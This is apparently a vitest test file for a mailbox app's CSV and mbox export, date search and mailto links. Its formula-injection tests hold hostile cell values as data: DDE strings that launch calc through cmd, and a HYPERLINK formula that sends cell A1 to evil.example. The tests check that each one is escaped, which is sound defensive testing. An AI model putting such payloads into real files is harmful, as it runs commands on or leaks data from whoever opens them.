import { parse } from "csv-parse/sync";
import { expect, vi } from "vitest";
import {
  it,
  noQuota,
  normalizeLines,
  parseMail,
  startTestMailbox,
  type TestMailbox,
} from "../fixtures.ts";

/** The rows of an export by the names of their columns. */
async function exported(mailbox: TestMailbox, query = ""): Promise<Record<string, string>[]> {
  const csv = await mailbox.page(`/mailbox/export.csv${query}`);
  return parse(csv, { columns: true });
}

it("an export is a table that a spreadsheet reads", async ({ mailbox }) => {
  const message = 'She said "two lamps",\nplease';
  await mailbox.post({ message });
  const answer = await mailbox.get("/mailbox/export.csv");
  expect(answer.headers.get("content-disposition")).toMatch(
    /^attachment; filename="inbox-[\d-]+\.csv"/,
  );
  // Without a byte order mark Excel reads another character set.
  expect([...(await answer.bytes()).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const email = "asha@example.org";
  expect(await exported(mailbox)).toMatchObject([{ email, status: "new", message }]);
});

it("an export runs no formula, whatever character it begins with", async ({ mailbox }) => {
  const formulas = [
    '=HYPERLINK("https://x.example")',
    "＝1+1",
    "＋1",
    "−5",
    "＠1",
    "﹣ 1",
    " =1+1",
    "\u00a0@x",
    "\u200b=1",
    "-2+3+cmd|' /C calc'!A0",
  ];
  for (const message of formulas) await mailbox.post({ message });
  const shown = (await exported(mailbox)).map(({ message }) => message);
  expect(shown).toEqual(formulas.map((formula) => `'${formula}`).toReversed());
});

/**
 * Texts that are more than one cell to a spreadsheet that separates by other signs, and what the
 * export has instead.
 */
const ofSeveralCells = [
  ["hello\n=cmd|'/c calc'!A0", "hello\n'=cmd|'/c calc'!A0"],
  ['a;=HYPERLINK("http://evil.example/?"&A1;"x")', `a;'=HYPERLINK("http://evil.example/?"&A1;"x")`],
  ["x\t=1+1", "x\t'=1+1"],
  ["line\r\n@SUM(A1)", "line\n'@SUM(A1)"],
  ['";=1+1;"', `";'=1+1;"`],
  ['a;"=1+1', `a;'"=1+1`],
  ["a;\t \u00a0＝1+1", "a;\t' \u00a0＝1+1"],
  ["\n=2+2", "\n'=2+2"],
  ["our wishes;\n- a shop\n+ a blog", "our wishes;\n'- a shop\n'+ a blog"],
  ["1 + 1 = 2; me@example.org - yes", "1 + 1 = 2; me@example.org - yes"],
] as const;

it("an export marks each cell of a text that is a formula elsewhere, and keeps its words", async ({
  mailbox,
}) => {
  for (const [message] of ofSeveralCells) await mailbox.post({ message });
  const shown = (await exported(mailbox)).map(({ message }) => message);
  expect(shown).toEqual(ofSeveralCells.map(([, marked]) => marked).toReversed());
});

it.for([",", ";", "\t", ";\t", ",;\t"])(
  "an export has no formula in any cell when %j separates",
  async (separators, { mailbox }) => {
    for (const [text] of ofSeveralCells) {
      await mailbox.post({ message: text, subject: text, name: text.replaceAll("://", " ") });
    }
    const csv = await mailbox.page("/mailbox/export.csv");
    // Without a comma the quotes are not where a cell begins and ends, and readers differ in what
    // they make of them. So a cell begins after every separator here, and quotes before a text are
    // dropped.
    const quote = separators.includes(",") ? '"' : null;
    const rows: string[][] = parse(csv, {
      delimiter: [...separators],
      quote,
      relax_column_count: true,
    });
    const cells = rows.flat().map((cell) => cell.replace(/^"+/, "").normalize("NFKC").trim());
    expect(cells.join("")).toContain("HYPERLINK");
    expect(cells.filter((cell) => /^[=+@\u2212-]/.test(cell))).toEqual([]);
  },
);

it("an export never normalizes a pile of marks, which would stop the mailbox for minutes", async ({
  mailbox,
}) => {
  const pile = "\u0301\u0323".repeat(25);
  await mailbox.post({ message: `a${pile}`, subject: `=${pile}`, name: `A;=${pile}` });
  const normalize = vi.spyOn(String.prototype, "normalize");
  const [row] = await exported(mailbox);
  const piles = normalize.mock.contexts.filter((text) => /\p{M}{31}/u.test(String(text)));
  expect(piles).toEqual([]);
  expect(row).toMatchObject({ message: `a${pile}`, subject: `'=${pile}`, name: `A;'=${pile}` });
});

it("an export is a file of mails that a mail program reads", async ({ mailbox }) => {
  const texts = ["From the start\n>From here, नमस्ते", "The second"];
  for (const message of texts) await mailbox.post({ message });
  const mails = (await mailbox.page("/mailbox/export.mbox"))
    .split(/^From MAILER-DAEMON \w{3} \w{3} \d\d [\d:]{8} \d{4}\n/m)
    .slice(1)
    .map((mail) => mail.replace(/^>(>*From )/gm, "$1"));
  const read = await Promise.all(mails.map(parseMail));
  expect(read.map((mail) => normalizeLines(mail.text).trim())).toEqual(texts.toReversed());
});

it("an export holds all that a search finds, over several batches, and nothing else", async () => {
  const quotas = { address: noQuota, key: noQuota, total: noQuota };
  const mailbox = await startTestMailbox({ quotas, openPerAddress: 0 });
  const lamps = Array.from({ length: 205 }, () => mailbox.postForId({ subject: "A lamp" }));
  const ids = await Promise.all(lamps);
  await mailbox.post({ subject: "A saree" });
  const found = await exported(mailbox, "?q=lamp");
  expect(found.map(({ id }) => id)).toEqual(ids.sort().toReversed());
});

it("an export is refused for a format or a date that does not exist", async ({ mailbox }) => {
  expect((await mailbox.get("/mailbox/export.xml")).status).toBe(404);
  expect((await mailbox.get("/mailbox/export.csv?from=2026-02-31")).status).toBe(400);
});

it("a search by date finds the messages of its days, the last one included", async () => {
  vi.useFakeTimers({ toFake: ["Date"] });
  try {
    const mailbox = await startTestMailbox();
    for (const day of [3, 4, 5]) {
      vi.setSystemTime(new Date(2030, 4, day, 23, 30));
      await mailbox.post({ subject: `Day ${day}` });
    }
    const page = await mailbox.page("/mailbox?from=2030-05-04&to=2030-05-04&q=day");
    expect(page).toContain("1 found");
    expect(page).toContain("Day 4");
    expect(await mailbox.page("/mailbox?to=2030-05-04")).toContain("2 found");
  } finally {
    vi.useRealTimers();
  }
});

it.for([
  ["from=2026-02-31", "2026-02-31"],
  ["to=yesterday", "yesterday"],
  ["from=0050-01-01", "0050-01-01"],
  ["from=2026-02-02&to=2026-02-01", "after the last day"],
] as const)("a search by date says what is wrong with %s", async ([query, reason], { mailbox }) => {
  await mailbox.post();
  const answer = await mailbox.get(`/mailbox?${query}`);
  expect(answer.status).toBe(400);
  expect(await answer.text()).toContain(reason);
});

const link = async (mailbox: TestMailbox, fields: object) => {
  const page = await mailbox.page(`/mailbox/${await mailbox.postForId({ ...fields })}`);
  const [, href = ""] = /href="(mailto:[^"]*)"/.exec(page) ?? [];
  return new URL(href.replaceAll("&amp;", "&"));
};

it("the link for an answer quotes the text, and cuts what no mail program would take", async ({
  mailbox,
}) => {
  const short = await link(mailbox, {});
  const quoted = "\r\n> A new shop, please.\r\n> By spring.\r\n";
  expect(short.searchParams.get("body")).toContain(quoted);
  const cut = await link(mailbox, { message: "नमस्ते ".repeat(900) });
  expect(cut.href.length).toBeLessThanOrEqual(2000);
  expect(cut.searchParams.get("body")).toContain(" [cut]");
  const long = { name: "नाम ".repeat(60), subject: "विषय ".repeat(50) };
  expect((await link(mailbox, long)).href.length).toBeLessThanOrEqual(2000);
});
